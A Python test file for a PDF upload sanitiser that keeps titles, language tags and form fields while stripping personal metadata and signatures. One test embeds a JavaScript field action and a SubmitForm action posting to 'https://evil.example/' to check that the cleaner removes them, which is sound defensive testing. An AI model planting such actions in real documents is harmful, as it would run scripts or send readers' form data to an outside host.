"""A PDF stays readable for everybody: its title, its language, its tags, and fields that can be filled in."""

from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from community.pages.uploads import Refused, pdf

pytestmark = pytest.mark.once  # no database


def made(change) -> bytes:
    """Return a PDF of one page, after ``change(document, page)``."""
    file = BytesIO()
    with Pdf.new() as document:
        document.add_blank_page()
        change(document, document.pages[0].obj)
        document.save(file)
    return file.getvalue()


def cleaned(change) -> Pdf:
    return pikepdf.open(BytesIO(pdf.cleaned(made(change))))


def titled(title: str, **info: str):
    def change(document: Pdf, page: Dictionary) -> None:
        document.docinfo["/Title"] = String(title)
        for key, value in info.items():
            document.docinfo[f"/{key}"] = String(value)

    return change


def test_title_stays_and_is_shown_by_the_reader():
    kept = cleaned(titled("Omgaan met stemmen: een werkboek", Author="Hanneke Vos", Producer="Word"))
    assert dict(kept.docinfo) == {"/Title": "Omgaan met stemmen: een werkboek"}
    assert kept.Root.ViewerPreferences.DisplayDocTitle is True


def test_title_that_only_the_metadata_has_stays():
    def change(document: Pdf, page: Dictionary) -> None:
        with document.open_metadata() as metadata:
            metadata["dc:title"] = "Slapen met een druk hoofd"

    kept = cleaned(change)
    assert str(kept.docinfo.Title) == "Slapen met een druk hoofd"
    assert "/Metadata" not in kept.Root


@pytest.mark.parametrize(
    "title",
    [
        "Microsoft Word - verslag mevrouw Jansen.docx", r"C:\Users\eva\Mijn map", "file:///home/eva mijn.pdf",
        "scan0012", "van eva@example.org over slapen", "Het plan van Hanneke", "", "Untitled 3",
        "a" * 150 + " " + "b" * 150,
    ],
)  # fmt: skip
def test_title_that_tells_of_a_person_or_a_file_goes(title):
    kept = cleaned(titled(title, Author="Hanneke Vos"))
    assert dict(kept.docinfo) == {}
    assert "/ViewerPreferences" not in kept.Root


def test_language_tags_and_bookmarks_stay():
    def change(document: Pdf, page: Dictionary) -> None:
        document.Root.Lang = String("nl-NL")
        document.Root.MarkInfo = Dictionary(Marked=True)
        figure = document.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Figure, Alt=String("Een raam")))
        document.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([figure]))
        with document.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Begin", 0))

    kept = cleaned(change)
    assert (str(kept.Root.Lang), kept.Root.MarkInfo.Marked) == ("nl-NL", True)
    assert str(kept.Root.StructTreeRoot.K[0].Alt) == "Een raam"
    with kept.open_outline() as outline:
        assert [item.title for item in outline.root] == ["Begin"]


def form(*fields: Dictionary, **catalog):
    def change(document: Pdf, page: Dictionary) -> None:
        font = document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        widgets = [document.make_indirect(field) for field in fields]
        page.Annots = Array(widgets)
        resources = Dictionary(Font=Dictionary(F1=font))
        document.Root.AcroForm = Dictionary(Fields=Array(widgets), DR=resources, DA=String("/F1 9 Tf"))
        for key, value in catalog.items():
            document.Root[f"/{key}"] = value

    return change


def field(kind: Name, **more) -> Dictionary:
    rectangle = Array([10, 10, 90, 30])
    return Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=kind, Rect=rectangle, DA=String("/F1 9 Tf"), **more)


def test_fields_can_still_be_filled_in_and_have_no_name_of_their_maker():
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    text = field(Name.Tx, T=String("door_eva_gemaakt"), TU=String("Wat helpt jou?"), AA=Dictionary(K=script))
    tick = field(Name.Btn, T=String("vinkje_eva"), A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
    kept = cleaned(form(text, tick))
    fields = list(kept.Root.AcroForm.Fields)
    assert [str(entry.FT) for entry in fields] == ["/Tx", "/Btn"]
    assert [str(entry.T) for entry in fields] == ["veld1", "veld2"]
    assert str(fields[0].TU) == "Wat helpt jou?"
    assert len(kept.pages[0].Annots) == 2
    everything = repr([*kept.objects])
    assert not [word for word in ("eva", "JavaScript", "evil", "SubmitForm") if word in everything]


def test_field_that_somebody_filled_in_becomes_part_of_the_page():
    def change(document: Pdf, page: Dictionary) -> None:
        drawn = document.make_stream(b"BT ET", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 20]))
        filled = field(Name.Tx, T=String("naam"), V=String("Hanneke"), AP=Dictionary(N=drawn))
        preset = field(Name.Ch, T=String("dag"), V=String("Maandag"), DV=String("Maandag"))
        form(filled, preset, field(Name.Btn, T=String("vinkje"), V=Name.Off))(document, page)

    kept = cleaned(change)
    assert [str(entry.FT) for entry in kept.Root.AcroForm.Fields] == ["/Ch", "/Btn"]


def test_signature_becomes_part_of_the_page():
    signed = Dictionary(Type=Name.Sig, Name=String("Hanneke Vos"), Contents=String("geheim"))
    kept = cleaned(form(field(Name.Sig, T=String("handtekening"), V=signed), field(Name.Tx, T=String("naam"))))
    assert [str(entry.FT) for entry in kept.Root.AcroForm.Fields] == ["/Tx"]
    assert "Hanneke" not in repr([*kept.objects])


def test_form_for_one_program_is_refused_with_a_reason():
    def change(document: Pdf, page: Dictionary) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))
        document.Root.NeedsRendering = True

    with pytest.raises(Refused) as refused:
        pdf.cleaned(made(change))
    assert refused.value.reason == "form"


def test_cleaned_pdf_can_be_cleaned_again():
    once = pdf.cleaned(made(form(field(Name.Tx, T=String("a")))))
    with pikepdf.open(BytesIO(pdf.cleaned(once))) as twice:
        assert len(twice.Root.AcroForm.Fields) == 1
